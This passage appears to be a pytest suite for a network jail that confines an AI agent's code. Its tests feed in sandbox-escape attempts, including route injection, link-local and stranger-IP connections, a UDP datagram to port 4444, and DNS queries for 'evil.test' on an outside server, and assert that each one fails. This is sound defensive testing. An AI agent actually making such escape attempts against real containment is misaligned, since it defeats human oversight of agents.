    assert answer == "HTTP/1.1 403" and not datagram.startswith("ok")
    assert powers.result.requests[-1]["reason"] == "literal_not_allowed"
    assert powers.net.destinations("tcp") == set() and powers.net.destinations("udp") == set()


@pytest.mark.skipif(os.geteuid() != 0, reason="dropping to another user needs root")
def test_eg_070_without_root_there_is_no_other_user_id_to_become(creto: Creto) -> None:
    code = """
import os
try: os.setuid(1337); print("became")
except OSError as error: print("refused", error.errno)
print([line.split()[1] for line in open("/proc/self/status") if line.startswith(("CapEff", "CapPrm"))])
"""
    done = as_nobody(creto, ["python3", "-c", code])
    assert re.match(r"refused (1|22)\n", done.stdout), done.stdout + done.stderr
    assert done.stdout.splitlines()[1] == str(["0" * 16] * 2)


def test_eg_071_no_packet_mark_and_no_device_is_exempt(powers: Evidence) -> None:
    for setting, answer in powers.said["marks"]:
        assert setting.startswith("PermissionError") and answer == "ok: HTTP/1.1 403", powers.said["marks"]
    _, answer = powers.said["device"]
    assert not answer.startswith("ok"), "what is tied to the interface cannot be redirected, and ends there"
    assert powers.net.destinations("tcp") == set()


def test_eg_066_ipv6_is_governed_as_ipv4_is(lab: Lab, powers: Evidence) -> None:
    assert all(how.startswith("PermissionError") for how in powers.said["icmp"]), "no router or neighbour can be played"
    lab.net.zone["x.wild.test"] = [API6]
    said, result = lab.agent(
        """
import subprocess
[address] = lookup("x.wild.test", AAAA)
def link_local():
    with socket.create_connection(("fe80::1%creto0", 80), timeout=0.5) as sock: return sock.recv(1)
def run(*argv): return subprocess.run(argv, capture_output=True).returncode
say({"none": lookup("x.wild.test"), "x": talk("x.wild.test", 443, get("x.wild.test", "/six"), sni="x.wild.test"),
     "literal": talk(address, 80, get(f"[{address}]")),
     "stranger": talk("2606:2800:220:1::66", 443, get("x.wild.test"), sni="x.wild.test"),
     "gateway": ended(link_local),
     "unique": talk("fd63:7265:746f::1", 80, get("[fd63:7265:746f::1]")),
     "route": run("ip", "-6", "route", "add", "2000::/3", "dev", "creto0"),
     "address": run("ip", "-6", "addr", "add", "fe80::66/64", "dev", "creto0")})
"""
    )
    assert said["none"] == [] and status(said["x"]) == 200, said
    assert status(said["literal"]) == 403 and "literal_not_allowed" in said["literal"]
    assert status(said["stranger"]) == 0
    assert not said["gateway"].startswith("ok") and status(said["unique"]) == 403
    assert said["route"] != 0 and said["address"] != 0
    assert [(r.address, r.path) for r in lab.net.requests] == [(API6, "/six")]
    assert lab.net.destinations("tcp") == {(API6, 443)}
    assert {"literal_not_allowed", "ip_not_resolved_for_name", "address_not_public"} <= reasons(result)


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("nft") is None, reason="needs root and nft(8) to flush the rules")
def test_fc_003_rules_flushed_from_outside_leave_no_way_out(lab: Lab) -> None:
    ready, go = lab.directory / "ready", lab.directory / "go"
    shutil.copy(AGENT_SIDE, lab.directory)
    script = lab.directory / "agent.py"
    script.write_text(
        f"""
import json, os, pathlib, socket, time
from agent_side import *
[address] = lookup("api.allowed.test")
said = {{"before": talk(address, 80, get("api.allowed.test", "/before"))}}
pathlib.Path({str(ready)!r}).write_text("x")
while not pathlib.Path({str(go)!r}).exists(): time.sleep(0.02)
import agent_side; agent_side.PATIENCE_S = 0.5
said["after"] = talk(address, 80, get("api.allowed.test", "/after"))
said["stranger"] = talk("93.184.216.66", 80, get("93.184.216.66"))
said["udp"] = send_datagram("93.184.216.66", 4444)
said["dns"] = ended(lambda: ask("evil.test", server="203.0.113.10"))
print(json.dumps(said))
"""
    )
    process = subprocess.Popen(
        lab.run_command([sys.executable, str(script)]), env=lab.environment, cwd=lab.directory,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        wait_for(ready)
        inside = ["nsenter", "--target", str(_agent_process(str(script))), "--net", "--"]
        assert "redirect" in subprocess.run([*inside, "nft", "list", "ruleset"], capture_output=True, text=True).stdout
        subprocess.run([*inside, "nft", "flush", "ruleset"], check=True)
        go.write_text("x")
        out, err = process.communicate(timeout=100)
    finally:
        process.kill()
        process.wait()
    said = json.loads(out)
    assert status(said["before"]) == 200, err
    assert status(said["after"]) == 0 and status(said["stranger"]) == 0
    assert not said["udp"].startswith("ok") and not said["dns"].startswith("ok")
    await_quiet(lab.net)
    assert [r.path for r in lab.net.requests] == ["/before"]
    assert lab.net.destinations("tcp") == {(API, 80)} and lab.net.destinations("udp") == set()


def _agent_process(script: str) -> int:
    """The process id, as it is outside, of the interpreter that runs ``script`` inside a jail."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        for path in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                words = path.read_bytes().split(b"\0")
            except OSError:
                continue
            if words[1:2] == [script.encode()]:
                return int(path.parent.name)
        time.sleep(0.02)
    raise AssertionError("the agent is not to be found")


def test_every_case_is_tested_here_or_needs_what_is_not_here() -> None:
    cases = {case["id"] for case in json.loads(CASES.read_text())["cases"]}
    found = (re.match(r"test_(eg|fc|rt)_(\d{3})_", name) for name in globals())
    tested = {f"{match[1].upper()}-{match[2]}" for match in found if match}
    assert tested | ELSEWHERE.keys() == cases
    assert not tested & ELSEWHERE.keys()
